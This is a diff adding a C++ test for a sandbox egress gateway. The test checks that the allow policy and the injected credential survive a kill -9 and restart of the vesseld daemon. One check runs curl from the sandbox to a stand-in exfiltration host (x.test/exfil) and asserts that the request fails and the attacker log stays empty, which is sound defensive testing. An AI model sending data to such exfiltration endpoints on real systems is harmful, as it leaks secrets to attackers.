@@ -314,6 +314,45 @@ TEST_F(EgressApiTest, GatewayIsSupervisedAndCounted) {
   EXPECT_THAT(m.body, HasSubstr("vessel_gateway_up 1"));
 }
 
+// kill -9 of vesseld takes its gateway down with it. The next vesseld takes
+// the running sandbox over with its slot and gives the new gateway its
+// policy and credential back: allowed names work, forbidden ones do not,
+// and the secret is still injected and still never in the guest.
+TEST_F(EgressApiTest, PolicyAndCredentialSurviveAVesseldKill9) {
+  std::string before = sh(sb(), "echo $$ > /tmp/alive-mark; cat /tmp/alive-mark");
+  auto gw = call("GET", "/healthz").js().at("gateway");
+  int64_t old_gateway = gw.at("pid").to_number<int64_t>();
+  g->d->kill9();
+  ASSERT_TRUE(g->d->start()) << vesseldLog();
+  auto v = call("GET", "/v1/sandboxes/" + sb()).js();
+  ASSERT_EQ(str(v, "state"), "running") << json::serialize(v) << vesseldLog();
+  gw = call("GET", "/healthz").js().at("gateway");
+  EXPECT_NE(gw.at("pid").to_number<int64_t>(), old_gateway) << "a new gateway";
+  EXPECT_EQ(gw.at("sandboxes").to_number<int64_t>(), 1) << json::serialize(gw);
+  EXPECT_EQ(sh(sb(), "cat /tmp/alive-mark"), before);
+
+  std::string o = curl("https://a.test/");
+  EXPECT_THAT(o, HasSubstr("hello from a.test")) << o;
+  EXPECT_THAT(o, HasSubstr("rc=0"));
+  o = curl("https://x.test/exfil") + curl("http://x.test/exfil");
+  EXPECT_THAT(o, Not(HasSubstr("rc=0"))) << o;
+  EXPECT_EQ(g->world->attackerLog(), "") << o;
+  o = sh(sb(), "curl -sS -m 8 https://api.a.test/echo 2>&1; echo rc=$?");
+  EXPECT_THAT(o, HasSubstr("rc=0")) << o;
+  EXPECT_THAT(o, Not(HasSubstr(kSecret)));
+  EXPECT_THAT(g->world->apiLog(), HasSubstr(std::string("Bearer ") + kSecret));
+  // Exactly one table of this vesseld in the shared gateway namespace: the
+  // new run replaced the old one rather than adding to it.
+  std::string tables = gatewayTables();
+  std::string name = "vessel_gw_" + g->prefix;
+  EXPECT_EQ(tables.find(name), tables.rfind(name)) << tables;
+  auto rules = os::runCommand(
+      os::inNetns(g->world->gwNetns(), {"nft", "list", "chain", "ip", name, "from_slot"}));
+  ASSERT_TRUE(rules.ok());
+  EXPECT_EQ(rules->out.find("@slot_sources"), rules->out.rfind("@slot_sources"))
+      << "rules loaded once: " << rules->out;
+}
+
 // Slots handed to sandboxes (from /healthz), once every slot namespace on
 // the host is accounted for (ready + attached): no slot exists unowned.
 int64_t attachedSlots() {
